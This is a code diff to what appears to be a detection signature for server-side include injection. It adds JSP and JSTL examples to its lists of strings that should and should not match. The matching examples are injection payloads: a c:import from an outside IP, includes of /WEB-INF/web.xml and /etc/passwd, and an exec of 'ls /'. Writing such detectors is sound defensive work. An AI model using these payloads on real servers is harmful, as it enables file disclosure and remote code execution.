@@ -12,6 +12,8 @@ export const ssi: Signature = {
   impact: [25, 35],
   examples: {
     hits: [
+      '<c:import url="http://203.0.113.9/a.jsp"/>',
+      '<jsp:include page="/WEB-INF/web.xml"/>',
       '<!--#exec cmd="ls /" -->',
       '<!--#include virtual="/etc/passwd"-->',
       '<!--#echo var="DATE_LOCAL" -->',
@@ -29,6 +31,7 @@ export const ssi: Signature = {
       '<!--#endif -->',
     ],
     misses: [
+      'write <c:import url="a"/> in the page',
       '<!-- #region -->',
       '<!--#-->',
       '<!-- see #include in the header -->',
